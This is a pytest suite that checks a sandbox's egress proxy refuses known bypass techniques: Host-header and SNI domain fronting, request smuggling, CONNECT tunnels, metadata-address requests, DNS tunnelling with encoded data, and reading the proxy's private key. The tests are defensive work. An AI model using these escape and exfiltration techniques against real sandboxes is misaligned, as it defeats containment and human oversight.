"""Ways around the policy that were tried elsewhere, one a test, on each backend."""

from __future__ import annotations

import shlex
import socket
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from envs.egress import names
from tests.integration.envs.egress.upstream import Upstream
from tests.integration.envs.egress.world import lines, raw, status

pytestmark = pytest.mark.attacks

# --- No way around ----------------------------------------------------------------------------------------------------


def test_a_name_in_the_host_header_does_not_open_another_door(sh: Callable, upstream: Upstream, log: Path) -> None:
    assert status(sh, "-H 'Host: open.test' https://elsewhere.test/") == "403"
    assert status(sh, "-H 'Host: elsewhere.test' https://open.test/") == "403"
    assert status(sh, "-H 'Host: open.test:8443' https://open.test/") == "403"
    assert status(sh, "--resolve open.test:443:1.2.3.4 https://open.test/") == "403"
    assert (
        status(
            sh,
            f"-k --connect-to open.test:443:{names.address_of('open.test')}:443 -H 'Host: open.test' https://elsewhere.test/",
        )
        == "403"
    )
    assert upstream.arrived() == []
    assert {line["reason"] for line in lines(log)[-5:]} == {"host"}


def test_an_absolute_target_cannot_name_another_host(sh: Callable, upstream: Upstream) -> None:
    for tls in (False, True):
        port = 443 if tls else 80
        answer = raw(sh, "GET http://elsewhere.test/ HTTP/1.1\r\nHost: open.test\r\n\r\n", port, tls=tls)
        assert "403" in answer.splitlines()[0], answer
    answer = raw(sh, "GET /x HTTP/1.1\r\nHost: open.test\r\nHost: elsewhere.test\r\n\r\n", 443, tls=True)
    assert answer.splitlines()[0].split()[1] in ("400", "403"), answer
    assert upstream.arrived() == []


def test_a_second_request_cannot_be_smuggled(sh: Callable, upstream: Upstream) -> None:
    inner = "GET /smuggled HTTP/1.1\r\nHost: elsewhere.test\r\n\r\n"
    both = (
        f"POST /v1/x HTTP/1.1\r\nHost: api.test\r\nContent-Length: {len(inner) + 5}\r\n"
        f"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}"
    )
    raw(sh, both, 443, "api.test", tls=True)
    assert not any("smuggled" in url for url in upstream.arrived())
    two = "GET /first HTTP/1.1\r\nHost: open.test\r\n\r\n" + inner.replace("\r\n\r\n", "\r\nConnection: close\r\n\r\n")
    answer = raw(sh, two, 443, "open.test", tls=True)
    assert upstream.arrived() == ["open.test/first"]
    assert "403" in answer


def test_tunnels_and_upgrades_are_refused(sh: Callable, upstream: Upstream) -> None:
    for tls, port in ((False, 80), (True, 443)):
        answer = raw(sh, "CONNECT elsewhere.test:443 HTTP/1.1\r\nHost: open.test\r\n\r\n", port, tls=tls)
        assert " 200 " not in answer and "mitm" not in answer.lower(), answer
    upgrade = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAA\r\n"
    answer = raw(sh, f"GET / HTTP/1.1\r\nHost: open.test\r\n{upgrade}\r\n", 443, tls=True)
    assert answer.startswith("HTTP/1.1 403"), answer
    answer = raw(sh, "SSH-2.0-OpenSSH_9.2\r\n", 443)
    assert "SSH" not in answer.replace("SSH-2.0-OpenSSH_9.2", ""), answer
    answer = raw(sh, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 80)
    assert " 200 " not in answer and "mitm" not in answer.lower(), answer
    assert upstream.arrived() == []


def test_addresses_in_place_of_names_are_denied(sh: Callable, upstream: Upstream) -> None:
    for url in (
        "http://1.1.1.1/",
        "https://1.1.1.1/",
        "http://169.254.169.254/latest/meta-data/",
        "http://192.168.1.1/",
    ):
        assert status(sh, f"-k {url}") == "403", url
    for url in ("http://0x7f000001:80/", f"http://127.0.0.1:{upstream.port}/"):
        assert status(sh, url).endswith("\n000"), url


def test_a_name_of_this_machines_own_network_is_refused(sh: Callable, log: Path) -> None:
    # `localhost` is allowed by a rule, which does not say that it may be private.
    where = f"--resolve localhost:80:{names.address_of('localhost')}"
    assert status(sh, f"{where} http://localhost/") == "403"
    assert lines(log)[-1]["reason"] == "address"


def test_services_of_the_host_cannot_be_reached(sh: Callable) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(1)
        port = server.getsockname()[1]
        found = sh(f"for h in 127.0.0.1 localhost 10.0.2.2 open.test; do curl -sS -m 2 http://$h:{port}/ 2>&1; done")[1]
        assert found.count("curl: (7)") == 4, found
        with pytest.raises(TimeoutError):
            server.accept()


def test_other_ports_protocols_and_families_lead_nowhere(kind: str, sh: Callable) -> None:
    program = """
import socket
def attempt(name, act):
    try:
        print(name, act())
    except OSError as e:
        print(name, type(e).__name__)
def udp(port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
    s.connect(("8.8.8.8", port)); s.send(b"x"); return s.recv(10)
attempt("ssh", lambda: socket.create_connection(("open.test", 22), 2))
attempt("alt", lambda: socket.create_connection(("open.test", 8443), 2))
attempt("udp", lambda: udp(9999))
attempt("quic", lambda: udp(443))
attempt("dns", lambda: udp(53))
attempt("v6", lambda: socket.create_connection(("2606:4700::1111", 443), 2))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("ping", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("bind", lambda: socket.create_server(("127.0.0.1", 443)))
"""
    found = dict(line.split(" ", 1) for line in sh(f"python3 - <<'END'\n{program}\nEND")[1].splitlines())
    refused = "ConnectionRefusedError"
    assert [found[name] for name in ("ssh", "alt", "udp", "quic", "dns")] == [refused] * 5
    assert found["v6"] == "OSError"
    assert found["raw"] == "PermissionError"
    assert found["packet"] in ("OSError", "PermissionError")
    # Docker lets everybody have ports below 1024, of which the one that matters is taken, and ping, which stays inside.
    assert found["bind"] in (("PermissionError",) if kind == "bubblewrap" else ("OSError",))
    if kind == "bubblewrap":
        assert found["ping"] == "PermissionError"


def test_the_route_cannot_be_changed_from_inside(sh: Callable) -> None:
    assert "not permitted" in sh("ip route add 8.8.8.8 dev lo 2>&1")[1]


def test_names_are_answered_without_asking_anybody(sh: Callable) -> None:
    assert sh("getent ahostsv4 open.test")[1].split()[0] == names.address_of("open.test")
    assert sh("getent hosts data.that.goes.out.elsewhere.test")[1].split()[0] == names.address_of(
        "data.that.goes.out.elsewhere.test"
    )
    assert sh("getent hosts printer.local metadata.google.internal")[0] == 2


def test_uploads_are_bounded(sh: Callable, upstream: Upstream, log: Path) -> None:
    sh("head -c 1048577 /dev/zero >/tmp/large; head -c 1048576 /dev/zero >/tmp/fits")
    assert status(sh, "--data-binary @/tmp/fits https://api.test/v1/up") == "200"
    assert status(sh, "--data-binary @/tmp/large https://api.test/v1/up").endswith("000")
    assert status(sh, "-H 'Transfer-Encoding: chunked' -d x https://api.test/v1/up").endswith("000")
    assert upstream.arrived() == ["api.test/v1/up"]
    assert [line["reason"] for line in lines(log)[-3:]] == ["allowed", "limit", "limit"]


def test_names_with_data_in_them_ask_no_resolver(sh: Callable, log: Path) -> None:
    """DNS tunnels: whatever kind of question it is, and over TCP too, the answer is made on the spot."""
    program = """
import socket, struct
def ask(name, kind, tcp):
    query = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + b"".join(
        bytes([len(part)]) + part.encode() for part in name.split(".")) + bytes([0]) + struct.pack("!HH", kind, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM); s.settimeout(3)
    s.connect(("127.0.0.53", 53))
    s.sendall((struct.pack("!H", len(query)) if tcp else b"") + query)
    answer = s.recv(2000)[2 if tcp else 0:]
    return struct.unpack("!H", answer[6:8])[0], answer[3] & 15
for tcp in (False, True):
    for kind in (1, 16, 28, 255, 10):
        print(*ask("c2VjcmV0IGRhdGE.tunnel.elsewhere.test", kind, tcp))
print(*ask("a" * 63 + "." + "b" * 63 + ".elsewhere.test", 1, False))
"""
    found = sh(f"python3 - <<'END'\n{program}\nEND")[1].split("\n")[:-1]
    assert found == ["1 0", "0 0", "0 0", "0 0", "0 0"] * 2 + ["1 0"], found
    # A real name, which a resolver would know, has the made-up address too: nobody was asked.
    assert sh("getent ahostsv4 dns.google")[1].split()[0] == names.address_of("dns.google")


def test_a_redirect_does_not_lead_to_a_denied_host(sh: Callable, upstream: Upstream, log: Path) -> None:
    upstream.locations["open.test/away"] = "https://elsewhere.test/data"
    assert status(sh, "-L https://open.test/away") == "403"
    assert upstream.arrived() == ["open.test/away"]
    assert [line["verdict"] for line in lines(log)[-2:]] == ["allowed", "denied"]
    upstream.locations["open.test/home"] = "http://169.254.169.254/latest/meta-data/"
    assert status(sh, "-L https://open.test/home") == "403"
    assert upstream.arrived() == ["open.test/home"]


def test_http_2_is_not_spoken(sh: Callable, upstream: Upstream) -> None:
    """Neither agreed on in the handshake nor assumed: one connection would carry requests that are not looked at."""
    program = """
import socket, ssl
context = ssl.create_default_context(); context.set_alpn_protocols(["h2", "http/1.1"])
c = context.wrap_socket(socket.create_connection(("open.test", 443), 5), server_hostname="open.test")
print(c.selected_alpn_protocol())
c.sendall(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0]))
c.settimeout(3)
try:
    print(c.recv(100)[:12])
except OSError as e:
    print(type(e).__name__)
"""
    agreed, answer = sh(f"python3 - <<'END'\n{program}\nEND")[1].splitlines()
    assert agreed in ("None", "http/1.1")
    assert "200" not in answer and "\\x00\\x00" not in answer, answer
    assert upstream.arrived() == []


@pytest.mark.parametrize("what", ["one header", "many headers", "target"])
def test_headers_and_targets_are_bounded(sh: Callable, upstream: Upstream, log: Path, what: str) -> None:
    """Servers hang up on longer ones, which would look as if they had failed."""
    arguments = {
        "one header": "-H \"X-Data: $(head -c 17000 /dev/zero | tr '\\0' a)\" https://open.test/",
        "many headers": "$(for i in $(seq 600); do printf -- '-H X-%d:aaaaaaaaaaaaaaaaaaaaaaaa ' $i; done) https://open.test/",
        "target": "\"https://open.test/$(head -c 9000 /dev/zero | tr '\\0' a)\"",
    }[what]
    assert status(sh, arguments).endswith("000")
    assert upstream.arrived() == []
    assert lines(log)[-1]["reason"] == "limit"
    # That was no outage: the sandbox goes on.
    assert status(sh, "https://open.test/") == "200"


def test_what_goes_out_to_an_allowed_host_is_in_the_log(sh: Callable, upstream: Upstream, log: Path) -> None:
    """A host that is allowed can be told things: the log has the path, and how much went in headers and body."""
    secret = "the-hidden-answer-is-42"
    assert status(sh, f"https://open.test/upload/{secret}") == "200"
    plain = lines(log)[-1]
    assert secret in plain["url"]
    status(sh, f"-H {shlex.quote('X-Data: ' + 'x' * 5000)} https://open.test/")
    assert lines(log)[-1]["header_bytes"] >= plain["header_bytes"] + 5000
    status(sh, f"-d {'y' * 700} https://api.test/v1/x")
    assert lines(log)[-1]["bytes_sent"] == 700


def test_the_roots_key_and_the_proxys_files_are_out_of_reach(backend: Any, sh: Callable) -> None:
    assert backend.proxy is not None
    key = backend.proxy.folder / "mitmproxy-ca.pem"
    assert "PRIVATE KEY" in key.read_text() and key.stat().st_mode & 0o077 == 0
    assert sh(f"cat {key}")[0] != 0
    assert sh("grep -rsl 'PRIVATE KEY' /etc /home /tmp /run /opt /var")[1] == ""
    program = """
import os
def shown(process):
    try:
        return open(f"/proc/{process}/environ", errors="replace").read()
    except OSError:
        return ""
print(any("PRIVATE KEY" in shown(process) for process in os.listdir("/proc") if process.isdecimal()))
"""
    assert sh(f"python3 - <<'END'\n{program}\nEND")[1] == "False\n"


def test_the_proxys_own_port_is_not_there(backend: Any, sh: Callable) -> None:
    """mitmproxy listens on the host's loopback, which is not the sandbox's."""
    import psutil

    ports = [c.laddr.port for c in psutil.Process(backend.proxy.pid).net_connections("tcp") if c.status == "LISTEN"]
    assert ports
    for port in ports:
        assert "(7)" in sh(f"curl -sS -m 3 http://127.0.0.1:{port}/ 2>&1")[1]
        assert "(7)" in sh(f"curl -sS -m 3 -x http://127.0.0.1:{port} http://open.test/ 2>&1")[1]


def test_a_handshake_cannot_name_another_host(sh: Callable, upstream: Upstream, log: Path) -> None:
    """Domain fronting: the name in the handshake is allowed, the one in the request is not, or there is none."""
    front = """
import socket, ssl
def ask(sni, host, where):
    context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
    c = context.wrap_socket(socket.create_connection((where, 443), 5), server_hostname=sni)
    c.sendall(f"GET / HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n".encode())
    print(c.recv(100).split()[1].decode())
ask("open.test", "elsewhere.test", "open.test")
ask("elsewhere.test", "open.test", "open.test")
ask("a.sub.test", "open.test", "open.test")
ask(None, "open.test", "open.test")
"""
    assert sh(f"python3 - <<'END'\n{front}\nEND")[1].split() == ["403"] * 4
    assert upstream.arrived() == []
    assert {line["reason"] for line in lines(log)[-4:]} == {"host"}


def test_a_host_that_is_no_name_is_denied_and_breaks_nothing(sh: Callable, upstream: Upstream, log: Path) -> None:
    """What no resolver takes (a label of 64 letters) must not make a rule's code fail open."""
    host = "x" * 64 + ".sub.test"
    where = names.address_of(host)
    answer = raw(sh, f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n", 80, where)
    assert "403" in answer.splitlines()[0], answer
    assert lines(log)[-1]["verdict"] == "denied"
    assert upstream.arrived() == []
